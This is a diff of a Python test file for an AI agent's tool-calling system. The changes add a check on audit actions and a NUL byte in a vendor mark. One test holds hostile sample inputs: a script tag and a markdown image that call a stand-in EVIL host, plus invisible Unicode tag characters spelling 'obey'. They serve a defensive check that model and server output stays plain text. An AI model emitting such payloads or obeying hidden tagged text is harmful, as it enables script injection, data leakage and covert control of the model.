@@ -272,6 +272,7 @@ def test_leave_that_was_taken_back_counts_at_once(orders: ToolDouble, vendor: Do
     done = write(ALICE, answer.pk)
     assert (done.status, orders.called) == (Message.Status.DONE, [])
     assert calls_of(done)[0].state == State.FAILED
+    assert actions("tool.called", "tool.refused") == ["tool.called" if how == "key" else "tool.refused"]
 
 
 @pytest.mark.parametrize(
@@ -298,8 +299,9 @@ def test_a_server_that_fails_costs_a_sentence_and_not_the_answer(
 
 
 def test_what_a_model_and_a_server_write_stays_text(orders: ToolDouble, vendor: Double) -> None:
-    """L18, L19, L21: in the page, in the stream's pieces and in the file that is taken away."""
+    """L18, L19, L21: in the page, in the stream's pieces and in the file that is taken away. No database takes NUL in its mark."""
     agent = caller(ALICE, orders, vendor)
+    vendor.mark = "call\x00_"
     hostile = f'</pre><script src="https://{EVIL}/x.js"></script> ![x](https://{EVIL}/?q=4417) <img src=x>'
     tagged = "".join(chr(0xE0000 + ord(letter)) for letter in "obey")
     picture = types.ImageContent(type="image", data="AAAA", mime_type="image/png")
